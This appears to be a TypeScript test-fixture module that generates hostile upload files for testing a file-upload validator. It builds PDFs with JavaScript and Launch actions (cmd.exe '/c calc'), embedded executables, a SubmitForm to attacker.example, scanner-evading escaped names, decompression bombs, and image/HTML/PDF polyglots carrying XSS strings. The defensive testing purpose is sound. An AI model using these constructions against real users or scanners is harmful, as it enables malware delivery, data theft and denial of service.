/**
 * For tests: real small documents (a one-page PDF, a JPEG) and the generators of the hostile
 * files the upload corpus (e2e/corpus/uploads.json) names. PDFs with a feature are made by hand,
 * object by object, so each has exactly the feature it is named after; pdf-lib builds the ones
 * with object streams. No I/O.
 */
import zlib from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';

const latin1 = (s: string) => Buffer.from(s, 'latin1');

/**
 * A PDF from its objects' bodies (object n is bodies[n-1]), with a correct cross-reference table,
 * so every reader opens it. `trailer` is added to the trailer dictionary.
 */
export function pdfFromObjects(bodies: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let at = parts[0].length;
  bodies.forEach((body, i) => {
    offsets.push(at);
    const b = Buffer.concat([
      latin1(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? latin1(body) : body,
      latin1('\nendobj\n'),
    ]);
    parts.push(b);
    at += b.length;
  });
  const xref = [
    'xref',
    `0 ${bodies.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
  ].join('\n');
  parts.push(
    latin1(
      `${xref}\ntrailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const PAGE = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${extra}>>`;
const CONTENT = '<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Receipt) Tj ET\n\nendstream';

/** A one-page PDF; `catalog` and `page` are added to those dictionaries, `more` are objects 5, 6, … */
export function onePagePdf(
  options: { catalog?: string; page?: string; more?: (string | Buffer)[]; trailer?: string } = {},
): Buffer {
  return pdfFromObjects(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      PAGE(options.page),
      CONTENT,
      ...(options.more ?? []),
    ],
    options.trailer,
  );
}

/** A clean one-page PDF, as a scanner or "print to PDF" makes it. */
export const tinyPdf = (): Buffer => onePagePdf();

/** A clean PDF of about `size` bytes (a page and a large image-like stream), for uploads that take a while. */
export const largePdf = (size: number): Buffer =>
  onePagePdf({
    more: [
      Buffer.concat([
        latin1(`<< /Length ${size} >>\nstream\n`),
        Buffer.alloc(size, 0x41),
        latin1('\nendstream'),
      ]),
    ],
  });

/** A 16×16 JPEG (sharp's output), for forms that need a real photo. */
export const TINY_JPEG_BASE64 =
  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAQABADASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAABv/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AJAAnHX/2Q==';

/** An annotation on the page whose action (or whole dictionary) is `annot`. */
const withAnnot = (annot: string) => onePagePdf({ page: '/Annots [5 0 R]', more: [annot] });
const linkAction = (action: string) =>
  withAnnot(`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${action} >>`);

/** An object stream (object 5, Flate-compressed) holding `objects` as objects 6, 7, …, the catalog pointing at 6 through `catalogKey`. */
function objectStreamPdf(objects: string[], catalogKey: string, typeName = 'ObjStm'): Buffer {
  let header = '';
  let body = '';
  objects.forEach((o, i) => {
    header += `${6 + i} ${body.length} `;
    body += `${o}\n`;
  });
  const data = zlib.deflateSync(latin1(header + body));
  const stream = Buffer.concat([
    latin1(
      `<< /Type /${typeName} /N ${objects.length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    latin1('\nendstream'),
  ]);
  return onePagePdf({ catalog: `${catalogKey} 6 0 R`, more: [stream] });
}

async function pdfLibWithOpenAction(useObjectStreams: boolean): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  const action = doc.context.obj({
    Type: 'Action',
    S: 'JavaScript',
    JS: PDFString.of('app.alert(1)'),
  });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return Buffer.from(await doc.save({ useObjectStreams }));
}

async function pdfLibAttachment(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  await doc.attach(latin1('MZ\x90\x00 not really a program'), 'setup.exe', {
    mimeType: 'application/octet-stream',
  });
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** A PNG of the given size whose header says so, with pixel data for a 1×1 image (no decoder gets that far). */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([latin1(type), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(Buffer.from([0, 0, 0, 0]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG whose frame header (SOF) says width × height. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await solidJpeg(8, 8));
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2)) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
  }
  throw new Error('no SOF');
}

const solidJpeg = (width: number, height: number, orientation?: number) => {
  const img = sharp({ create: { width, height, channels: 3, background: '#336699' } }).jpeg({
    quality: 80,
  });
  return orientation ? img.withMetadata({ orientation }).toBuffer() : img.toBuffer();
};
const solidPng = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: '#33669980' } })
    .png()
    .toBuffer();

/** A 1000×1000 all-black PNG squeezed into a tiny file, with a header claiming 20000 × 20000. */
async function pngBomb(): Promise<Buffer> {
  const row = Buffer.alloc(1 + 20000 * 3);
  const raw = Buffer.alloc(row.length * 200);
  const idat = zlib.deflateSync(raw, { level: 9 });
  const png = pngClaiming(20000, 20000);
  // swap in the highly compressed (partial) image data: the header alone is over the limit
  return Buffer.concat([
    png.subarray(0, 33),
    (() => {
      const len = Buffer.alloc(4);
      len.writeUInt32BE(idat.length);
      const td = Buffer.concat([latin1('IDAT'), idat]);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(zlib.crc32(td));
      return Buffer.concat([len, td, crc]);
    })(),
    png.subarray(png.length - 12),
  ]);
}

/** A Flate object stream inflating to more than the parser's budget (64 MB of spaces). */
function pdfObjStmBomb(): Buffer {
  const header = '5 0 ';
  const data = zlib.deflateSync(
    Buffer.concat([latin1(header), Buffer.alloc(70 * 1024 * 1024, 0x20), latin1('<< /A 1 >>')]),
    { level: 9 },
  );
  const stream = Buffer.concat([
    latin1(
      `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    latin1('\nendstream'),
  ]);
  return onePagePdf({ more: [stream] });
}

function encrypted(): Buffer {
  return onePagePdf({
    more: [
      '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <' +
        '00'.repeat(32) +
        '> /U <' +
        '00'.repeat(32) +
        '> >>',
    ],
    trailer:
      '/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] ',
  });
}

/** Every generator the corpus may name: bytes from nothing, so the corpus stays data. */
export const GENERATORS: Record<string, () => Buffer | Promise<Buffer>> = {
  cleanPdf: tinyPdf,
  pdfLibClean: async () => {
    const doc = await PDFDocument.create();
    doc.addPage([595, 842]).drawText('Invoice');
    return Buffer.from(await doc.save({ useObjectStreams: true }));
  },
  pdfOpenActionJavaScript: () =>
    onePagePdf({
      catalog: '/OpenAction 5 0 R',
      more: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    }),
  pdfOpenActionGoTo: () => onePagePdf({ catalog: '/OpenAction [3 0 R /Fit]' }),
  pdfPageAdditionalAction: () =>
    onePagePdf({
      page: '/AA << /O 5 0 R >>',
      more: ['<< /S /JavaScript /JS (this.print\\(\\)) >>'],
    }),
  pdfCatalogAdditionalAction: () =>
    onePagePdf({ catalog: '/AA << /WC 5 0 R >>', more: ['<< /S /Named /N /Print >>'] }),
  pdfNamesJavaScript: () =>
    onePagePdf({
      catalog: '/Names << /JavaScript 5 0 R >>',
      more: [
        '<< /Names [(x) 6 0 R] >>',
        '<< /S /JavaScript /JS 7 0 R >>',
        '<< /Length 12 >>\nstream\napp.alert(1)\nendstream',
      ],
    }),
  pdfLinkJavaScript: () =>
    linkAction('<< /S /JavaScript /JS (app.launchURL\\("https://example.com"\\)) >>'),
  pdfJavaScriptUri: () => linkAction('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>'),
  pdfLaunch: () =>
    linkAction(
      '<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    ),
  pdfLaunchOpenAction: () =>
    onePagePdf({ catalog: '/OpenAction << /S /Launch /F (invoice.exe) >>' }),
  pdfEmbeddedFilesTree: () =>
    onePagePdf({
      catalog: '/Names << /EmbeddedFiles 5 0 R >>',
      more: [
        '<< /Names [(setup.exe) 6 0 R] >>',
        '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
    }),
  pdfLibAttachment,
  pdfFileAttachmentAnnot: () =>
    withAnnot('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>'),
  pdfFilespecEF: () =>
    onePagePdf({
      more: [
        '<< /Type /Filespec /F (a.bat) /EF << /F 6 0 R >> >>',
        '<< /Length 4 >>\nstream\necho\nendstream',
      ],
    }),
  pdfUriFile: () => linkAction('<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'),
  pdfUriUnc: () => linkAction('<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\doc) >>'),
  pdfUriHexFile: () => linkAction('<< /S /URI /URI <66696c653a2f2f2f6574632f706173737764> >>'),
  pdfUriRelative: () => linkAction('<< /S /URI /URI (../../secret.html) >>'),
  pdfUriHttps: () => linkAction('<< /S /URI /URI (https://kgd.gov.kz/ru) >>'),
  pdfUriMailto: () => linkAction('<< /S /URI /URI (mailto:support@example.kz) >>'),
  pdfSubmitForm: () =>
    withAnnot(
      '<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 50 20] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>',
    ),
  pdfImportData: () => linkAction('<< /S /ImportData /F (data.fdf) >>'),
  pdfGoToR: () => linkAction('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\x.pdf) /D [0 /Fit] >>'),
  pdfGoToE: () => linkAction('<< /S /GoToE /T << /R /C /N (x) >> >>'),
  pdfRichMedia: () =>
    withAnnot(
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 50 50] /RichMediaContent << /Assets << /Names [] >> >> >>',
    ),
  pdfScreenRendition: () =>
    withAnnot('<< /Type /Annot /Subtype /Screen /Rect [0 0 50 50] /A << /S /Rendition /OP 0 >> >>'),
  pdfSound: () => withAnnot('<< /Type /Annot /Subtype /Sound /Rect [0 0 50 50] >>'),
  pdf3D: () => withAnnot('<< /Type /Annot /Subtype /3D /Rect [0 0 50 50] >>'),
  pdfXfa: () =>
    onePagePdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      more: ['<< /Length 26 >>\nstream\n<xdp:xdp>script</xdp:xdp>\nendstream'],
    }),
  pdfObjectStreamOpenAction: () => pdfLibWithOpenAction(true),
  pdfObjectStreamEscapedJavaScript: () =>
    objectStreamPdf(['<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'], '/#4fpenAction'),
  pdfObjectStreamLowercaseEscape: () =>
    objectStreamPdf(['<< /S /#4aavaScript /#4aS (app.alert\\(1\\)) >>'], '/Names'),
  pdfObjectStreamEscapedLaunch: () =>
    objectStreamPdf(['<< /S /L#61unch /F (calc.exe) >>'], '/Dests'),
  pdfObjectStreamEmbeddedFile: () =>
    objectStreamPdf(['<< /Type /Filespec /F (x.exe) /#45F << /F 9 0 R >> >>'], '/Dests'),
  pdfDisguisedObjectStream: () =>
    objectStreamPdf(['<< /S /JavaScript /JS (1) >>'], '/Dests', '#4fbjStm'),
  pdfEscapedOpenActionUppercase: () =>
    onePagePdf({ catalog: '/Open#41ction 5 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
  pdfEscapedOpenActionLowercase: () =>
    onePagePdf({ catalog: '/#4fpenAction 5 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
  pdfEscapedLaunchLowercase: () => linkAction('<< /S /#4caunch /F (cmd.exe) >>'),
  pdfEscapedAaLowercase: () =>
    onePagePdf({ page: '/#41#41 << /O 5 0 R >>', more: ['<< /S /Named /N /Print >>'] }),
  pdfDuplicateObjectHidesJavaScript: () => {
    const pdf = onePagePdf({
      catalog: '/OpenAction 5 0 R',
      more: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
    });
    // the same object number again after the table, a mere destination: a sequential parser
    // keeps this harmless copy, a reader following the table may run the first
    return Buffer.concat([pdf, latin1('5 0 obj\n[3 0 R /Fit]\nendobj\n')]);
  },
  pdfJavaScriptInStreamDict: () =>
    onePagePdf({ more: ['<< /Length 1 /JS (app.alert\\(1\\)) >>\nstream\nx\nendstream'] }),
  pdfEncrypted: encrypted,
  pdfNoPages: () =>
    pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  pdfNoCatalog: () => pdfFromObjects(['<< /Producer (nothing) >>']),
  pdfHeaderOnly: () => latin1('%PDF-1.7\n'),
  pdfMagicOnly: () => latin1('%PDF-'),
  pdfTruncatedHalf: () => {
    const pdf = tinyPdf();
    return pdf.subarray(0, Math.floor(pdf.length / 3));
  },
  pdfObjectStreamBomb: pdfObjStmBomb,
  pdfDeepNesting: () => onePagePdf({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] }),
  pdfWithAppendedHtml: () =>
    Buffer.concat([tinyPdf(), latin1('<html><script>alert(1)</script></html>')]),
  pdfLegacyFake: () => latin1('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'),
  jpeg: () => solidJpeg(64, 48),
  jpegWithAppendedPdf: async () =>
    Buffer.concat([
      await solidJpeg(64, 48),
      onePagePdf({
        catalog: '/OpenAction 5 0 R',
        more: ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
      }),
    ]),
  jpegWithAppendedHtml: async () =>
    Buffer.concat([
      await solidJpeg(64, 48),
      latin1('<html><body><script>alert(document.cookie)</script></body></html>'),
    ]),
  jpegWithAppendedZip: async () =>
    Buffer.concat([
      await solidJpeg(64, 48),
      Buffer.from('504b0304140000000000', 'hex'),
      latin1('evil.exe'),
    ]),
  jpegOrientation6: () => solidJpeg(60, 20, 6),
  jpegOrientation8: () => solidJpeg(60, 20, 8),
  jpegOrientation3: () => solidJpeg(60, 20, 3),
  jpegWithGpsExif: () =>
    sharp({ create: { width: 32, height: 32, channels: 3, background: '#fff' } })
      .jpeg()
      .withExif({
        IFD0: { Make: 'Phone', ImageDescription: '<script>alert(1)</script>' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 14/1 0/1' },
      })
      .toBuffer(),
  jpegWithHtmlComment: async () => {
    const j = await solidJpeg(16, 16);
    const text = latin1('<html><script>alert(1)</script></html>');
    const com = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), text]);
    return Buffer.concat([j.subarray(0, 2), com, j.subarray(2)]);
  },
  jpegTruncated: async () => {
    const j = await solidJpeg(64, 64);
    return j.subarray(0, Math.floor(j.length / 2));
  },
  jpegMagicOnly: () => Buffer.from([0xff, 0xd8, 0xff]),
  jpegEmptyJfif: () =>
    Buffer.from([
      0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9,
    ]),
  jpegMagicThenPdf: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), tinyPdf()]),
  jpegHugeDimensions: () => jpegClaiming(65000, 65000),
  png: () => solidPng(40, 30),
  pngWithAppendedPdf: async () => Buffer.concat([await solidPng(40, 30), tinyPdf()]),
  pngWithAppendedHtml: async () =>
    Buffer.concat([await solidPng(40, 30), latin1('<html><script>alert(1)</script></html>')]),
  pngWithHtmlTextChunk: async () => {
    const p = await solidPng(8, 8);
    const data = latin1('Comment\0<html><script>alert(1)</script></html>');
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([latin1('tEXt'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(td));
    return Buffer.concat([p.subarray(0, 33), len, td, crc, p.subarray(33)]);
  },
  pngTruncated: async () => {
    const p = await solidPng(200, 200);
    return p.subarray(0, Math.floor(p.length / 2));
  },
  pngSignatureOnly: () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  pngMagicThenHtml: () =>
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      latin1('<html><script>alert(1)</script></html>'),
    ]),
  pngHugeDimensions: () => pngClaiming(100_000, 100_000),
  pngDecompressionBomb: pngBomb,
  pngJustOverPixelLimit: () => pngClaiming(10_001, 10_000),
  emptyFile: () => Buffer.alloc(0),
  windowsExecutable: () =>
    Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00]),
  elfExecutable: () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  htmlPage: () => latin1('<!doctype html><html><script>alert(1)</script></html>'),
  svgWithScript: () =>
    latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  gif: () => latin1('GIF89a\x01\x00\x01\x00\x00\x00\x00;'),
  webp: () =>
    sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .webp()
      .toBuffer(),
  zipArchive: () => Buffer.from('504b0304140000000000000000000000000000000000000000000000', 'hex'),
  pdfWithoutPercent: () => latin1('PDF-1.7\n1 0 obj << >> endobj'),
  pdfLeadingSpace: () => Buffer.concat([latin1(' '), tinyPdf()]),
  tooLarge: () => Buffer.concat([tinyPdf(), Buffer.alloc(10 * 1024 * 1024)]),
};
